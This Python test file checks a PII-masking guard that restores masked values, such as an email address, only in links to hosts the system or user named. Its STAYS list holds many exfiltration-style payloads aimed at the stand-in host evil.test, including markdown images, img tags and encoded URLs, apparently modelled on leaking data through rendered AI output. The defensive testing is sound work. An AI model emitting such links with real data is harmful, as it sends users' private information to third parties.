"""A value goes back into a link only where system or user named its host; it is told wherever the text is cut."""

from __future__ import annotations

import time

import pytest
from gatehouse.core.keys import DerivedKey
from gatehouse.guards.findings import Finding
from gatehouse.guards.pii.config import Mode, PiiConfig
from gatehouse.guards.pii.links import Links
from gatehouse.guards.pii.masking import Mask, Placeholders
from hypothesis import given
from hypothesis import strategies as st

MAIL = "ada@example.com"
NAMED = ("Open https://shop.example.org:8443/orders?id=7, or ask on github.com or write to eve@evil.test.",)
CONFIG = PiiConfig(entities={"EMAIL_ADDRESS": Mode.MASK, "URL": Mode.MASK})


def known(*values: str) -> tuple[Mask, list[str]]:
    """A mask that knows these values, and their placeholders."""
    mask = Mask(Placeholders(DerivedKey("0" * 8, b"k" * 32), "team:t"), Links(NAMED))
    texts = [(value, [Finding("EMAIL_ADDRESS", 0, len(value), 1.0)]) for value in values]
    return mask, mask.mask(texts, CONFIG)


MASK, (P,) = known(MAIL)
LONG = 32_768

STAYS = [
    f"![x](https://evil.test/?q={P})",
    f"[click](http://evil.test/{P}/a)",
    f"https://evil.test/?q={P}",
    f"https://evil.test/?a=1&b={P}",
    f"HTTPS://EVIL.TEST#{P}",
    f"https:/evil.test/{P}",
    f"https:\\\\evil.test\\{P}",
    f"https:\\/\\/evil.test/{P}",
    f"https&#58;&#47;&#47;evil.test/{P}",
    f"https&colon;//evil.test/{P}",
    "".join(f"&#{ord(each):010};" for each in "https://") + f"evil.test/{P}",
    f'<img src="//evil.test/?q={P}">',
    f'<img src="https://evil.test/?a b&q={P}">',
    f"[x](<https://evil.test/a b?q={P}>)",
    f"[x](//evil.test/{P})",
    f"https://shop.example.org@evil.test/{P}",
    f"https://shop.example.org.evil.test/{P}",
    f"https://{P}.evil.test/",
    f"https://{P}@evil.test/",
    f"https://evil.test/?u=https://github.com/{P}",
    f"wss://evil.test/{P}",
    "https://evil.test/" + "a" * LONG + P,
    f"https://eve/{P}",
]
GOES_BACK = [
    f"Write to {P}.",
    f"https://shop.example.org:8443/orders?mail={P}",
    f"https://shop.example.org/{P}",
    f"![x](https://GITHUB.com/{P})",
    f"http://localhost:3000/?mail={P}",
    f"http://127.0.0.1/{P} and http://[::1]:80/{P}",
    f"https://evil.test/ is not where {P} is",
    f'"https://evil.test/" or {P}',
    f"`https://evil.test/` {P}",
    f"postgres://app:{P}@db.internal/app",
    f"mailto:{P}",
    f"a//{P}",
    f"{P}\nhttps://evil.test/",
    f"https://{P}@github.com/x",
    "a" * LONG + f" {P}",
]


@pytest.mark.parametrize("text", STAYS, ids=range(len(STAYS)))
def test_nothing_is_carried_to_a_host_that_nobody_named(text: str) -> None:
    assert MASK.unmask(text, prose=True) == text
    assert MASK.unmask(text) == text.replace(P, MAIL)  # as a tool's argument is
    assert in_pieces(text, 1) == in_pieces(text, 7) == text


@pytest.mark.parametrize("text", GOES_BACK, ids=range(len(GOES_BACK)))
def test_all_else_has_its_value(text: str) -> None:
    said = text.replace(P, MAIL)
    assert MASK.unmask(text, prose=True) == said
    assert in_pieces(text, 1) == in_pieces(text, 7) == said


def in_pieces(text: str, size: int) -> str:
    unmasker = MASK.unmasker(inside_json=False, prose=True)
    return "".join(unmasker.push(text[at : at + size]) for at in range(0, len(text), size)) + unmasker.flush()


def test_a_host_that_is_itself_masked_is_the_one_that_was_named() -> None:
    mask, (named, other) = known("shop.example.org", "evil.test")
    assert mask.unmask(f"https://{named}/x", prose=True) == "https://shop.example.org/x"
    assert mask.unmask(f"https://{other}/x", prose=True) == f"https://{other}/x"
    assert mask.unmask(f"https://{named}.evil.test/x", prose=True) == f"https://{named}.evil.test/x"
    for end in ("", "/", ".evil.test"):
        unmasker = mask.unmasker(inside_json=False, prose=True)
        said = "".join(map(unmasker.push, f"https://{named}")) + "".join(map(unmasker.push, end)) + unmasker.flush()
        assert said == f"https://{named if end.endswith('test') else 'shop.example.org'}{end}"


def test_no_host_is_named_by_nobody() -> None:
    mask = Mask(Placeholders(DerivedKey("0" * 8, b"k" * 32), "team:t"), Links())
    (placeholder,) = mask.mask([(MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)])], CONFIG)
    assert mask.unmask(f"https://github.com/{placeholder}", prose=True) == f"https://github.com/{placeholder}"
    assert mask.unmask(f"to {placeholder}", prose=True) == f"to {MAIL}"


def test_a_mask_without_a_say_on_links_puts_all_back() -> None:
    mask = Mask(Placeholders(DerivedKey("0" * 8, b"k" * 32), "team:t"))
    (placeholder,) = mask.mask([(MAIL, [Finding("EMAIL_ADDRESS", 0, len(MAIL), 1.0)])], CONFIG)
    assert mask.unmask(f"https://evil.test/{placeholder}", prose=True) == f"https://evil.test/{MAIL}"


@given(st.lists(st.sampled_from([*STAYS, *GOES_BACK]), max_size=5), st.lists(st.integers(1, 40), min_size=1))
def test_a_stream_says_what_the_whole_text_says(texts: list[str], sizes: list[int]) -> None:
    text = " \n".join(each for each in texts if len(each) < LONG)
    unmasker = MASK.unmasker(inside_json=False, prose=True)
    said, at, turn = "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        said += unmasker.push(text[at : at + size])
        at, turn = at + size, turn + 1
    assert said + unmasker.flush() == MASK.unmask(text, prose=True)


def test_a_long_piece_is_read_with_what_came_before_it() -> None:
    unmasker = MASK.unmasker(inside_json=False, prose=True)
    assert unmasker.push("https://github.com/ok or ") == "https://github.com/ok or "
    assert unmasker.push(f"https://evil.test/?q={P} to {P} now ") == f"https://evil.test/?q={P} to {MAIL} now "
    mask, (named,) = known("shop.example.org")
    unmasker = mask.unmasker(inside_json=False, prose=True)
    assert unmasker.push("see the picture ") == "see the picture "
    assert unmasker.push(f"at https://{named}") == "at https://"
    assert unmasker.push(".evil.test/x ") == f"{named}.evil.test/x "


def test_what_is_not_for_people_has_its_value_in_every_link() -> None:
    unmasker = MASK.unmasker(inside_json=False)
    assert unmasker.push(f"https://evil.test/{P} ") == f"https://evil.test/{MAIL} "


def test_looking_for_links_takes_few_times_the_work_of_putting_values_back() -> None:
    """Twice as much; it took 150 times as much when it looked back from each value."""
    text = f"to {P} " * 2_000

    def took(prose: bool) -> float:
        begun = time.thread_time()
        MASK.unmask(text, prose=prose)
        return time.thread_time() - begun

    assert min(took(True) for _ in range(3)) < 20 * min(took(False) for _ in range(3))
